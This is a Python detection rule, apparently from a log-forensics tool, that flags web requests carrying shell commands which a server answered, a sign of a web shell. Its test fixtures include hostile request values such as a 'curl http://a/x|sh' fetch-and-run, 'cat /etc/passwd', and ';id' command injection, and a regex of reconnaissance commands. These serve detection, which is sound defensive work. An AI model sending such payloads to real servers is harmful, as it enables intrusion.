"""A request that carried a command, and an answer that is no page of the site."""

import re
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime

from hemostat.detect.check import check, fires, quiet
from hemostat.detect.web_pages import (
    Served,
    Use,
    by_page_and_client,
    claim_of,
    is_output,
    uses_of,
    without_echo,
)
from hemostat.model.finding import Claim, RuleTexts
from hemostat.model.level import Level
from hemostat.model.records import ContentMatch, FileFact, WebPage, WebRequest
from hemostat.model.text import Text
from hemostat.parse.logs.access_signs import is_script

TEXTS = RuleTexts(
    title=Text(
        en="A request carried a command and was answered",
        zh="请求携带命令且服务器返回成功",
    ),
    summary=Text(
        en="{client} sent {count} request(s) with a command or code to {page}, the first at {time}:"
        " {what} (status {status}, {size} bytes). The server answers other requests differently.",
        zh="{client} 向 {page} 发送了 {count} 个携带命令或代码的请求，首次于 {time}：{what}"
        "（状态码 {status}，{size} 字节）；与该站点的正常响应不同。",
    ),
    benign=Text(
        en="A test of one's own, or an administrator's page that takes commands: then the address"
        " is yours and the page belongs to a product.",
        zh="自查测试，或本就接受命令的管理页面：此时地址属于自己人，且页面属于某个产品。",
    ),
)
_SIGNS = frozenset(("command", "command_word", "code", "shellshock"))
_STRONG = frozenset(("command", "code", "shellshock"))
# A word no ordinary page takes as a value.
_TELLING = re.compile(r"=(?:whoami|uname|ifconfig|ipconfig|netstat|systeminfo|tasklist)\b")
_WHEN = datetime(2026, 11, 20, 3, 0, tzinfo=UTC)
_CLIENT = "198.51.100.7"


def _asked(
    what: str, size: int, path: str = "/a/s.jsp", sign: str = "command", *, usual: bool = False
) -> WebRequest:
    return WebRequest(
        client=_CLIENT,
        time=_WHEN,
        method="GET",
        uri=f"{path}?{what}",
        path=path,
        status=200,
        size=size,
        signs=(sign,),
        found=what,
        is_usual=usual,
    )


def _page(path: str = "/a/s.jsp", plain: int = 0, least: int | None = None) -> WebPage:
    return WebPage(path=path, clients=(_CLIENT,), plain_clients=plain, gets=3, least=least)


@check(
    "linux.web.command-answered",
    level=Level.HIGH,
    confidence=Level.MEDIUM,
    category="web_command",
    attack=("T1190", "T1505.003"),
    incident_types=("web_intrusion", "webshell", "backdoor"),
    texts=TEXTS,
    next=("keep-evidence", "find-entry", "check-other-hosts", "block-address"),
    by_hand="grep -aF {client} {log}",
    examples=(
        fires(_asked("cmd=id", 54, sign="command_word"), _asked("cmd=cat /x", 99), _page()),
        fires(
            _asked("vars[1][]=curl http://a/x|sh", 52, "/index.php", "code"),
            _page("/index.php", plain=9, least=18_000),
        ),
        quiet(_asked("cmd=cat /etc/passwd", 54, usual=True), _page()),
        quiet(_asked("x=;id", 30_000, "/"), _page("/", plain=40, least=29_000)),
        quiet(_asked("cmd=id", 54, "/api/run", "command_word"), _page("/api/run")),
        quiet(
            *(_asked(f"x={n};id", 20, "/index.php", "code") for n in range(4)),
            _page("/index.php"),
        ),
    ),
)
def command_answered(
    requests: Iterable[WebRequest],
    pages: Iterable[WebPage],
    facts: Iterable[FileFact],
    matches: Iterable[ContentMatch],
) -> Iterator[Claim]:
    """A command in a request, answered by a script that nobody else uses, or unlike the page.

    Scanners send commands to every host, and most answer 200 with a page of theirs: the answer's
    size tells. Many texts that get the very same answer ran nothing.
    """
    uses, served = uses_of(pages), Served(facts, matches)
    for key, _, found in by_page_and_client(requests, _SIGNS):
        use = uses.get(key, Use())
        sent = without_echo(found)
        level = _level(sent, use)
        if level is not None:
            sent.sort(key=lambda each: "command" not in each.signs)
            yield claim_of(sent, pages=use.pages, files=served.of(key[3]), level=level)


def _level(sent: list[WebRequest], use: Use) -> Level | None:
    short = [each for each in sent if is_output(each)]
    if not short or not _is_unlike(short, use):
        return None
    is_strong = any(_STRONG.intersection(each.signs) for each in short)
    answers = len({each.size for each in sent})
    if not is_script(short[0].path) and "/cgi-bin/" not in short[0].path:
        is_talk = is_strong and answers >= 3 and use.is_strangers
        return Level.MEDIUM if is_talk else None
    is_for_that = use.calls <= 2 * sum(each.count for each in sent) + 2
    if use.is_strangers and is_for_that and not use.plain_clients and answers >= 2:
        return Level.HIGH
    is_told = any(_TELLING.search(each.found) or "data_script" in each.signs for each in short)
    return Level.MEDIUM if is_strong or (is_told and not use.plain_clients) else None


def _is_unlike(short: list[WebRequest], use: Use) -> bool:
    """Whether the page's ordinary answers are at least twice as long."""
    least = use.least
    return least is None or any(each.size is not None and 2 * each.size < least for each in short)
